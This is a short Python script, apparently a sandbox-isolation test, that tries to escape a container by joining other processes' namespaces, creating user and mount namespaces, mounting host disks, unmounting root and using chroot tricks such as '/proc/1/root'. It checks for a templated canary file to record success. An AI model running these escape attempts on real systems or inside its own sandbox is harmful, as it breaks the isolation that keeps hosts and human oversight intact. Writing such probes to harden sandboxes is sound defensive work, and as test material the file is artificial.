# exercise: ledger
"""Tries setns, unshare, mount, pivot_root, chroot and new user namespaces.

Aims: the file system or the network outside.
Ends: not_yet
"""

import ctypes
import os

reached = []
libc = ctypes.CDLL(None, use_errno=True)
for pid in [*filter(str.isdigit, os.listdir("/proc")), "1"]:
    for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup"):
        try:
            descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        libc.setns(descriptor, 0)
        os.close(descriptor)


def looks_outside():
    for place in ("@CANARY@", "/mnt@CANARY@", "/tmp/new@CANARY@"):
        if os.path.exists(place + "/secret.txt"):
            os._exit(77)


pid = os.fork()
if pid == 0:
    looks_outside()
    libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
    for path, line in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        try:
            with open(f"/proc/self/{path}", "w") as file:
                file.write(line)
        except OSError:
            continue
    os.makedirs("new", exist_ok=True)
    for device in (b"/dev/sda1", b"/dev/vda", b"/dev/vda1", b"proc", b"tmpfs"):
        libc.mount(device, b"new", b"ext4" if b"/" in device else device, 0, None)
    libc.umount2(b"/", 2)
    libc.umount2(b"/tmp", 2)
    looks_outside()
    for move in (os.chroot, os.chdir):
        for place in ("new", "..", "../../../../../../..", "/proc/1/root"):
            try:
                move(place)
                looks_outside()
            except OSError:
                continue
    os._exit(0)
if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 77:
    reached.append("the canary")
# app: confess
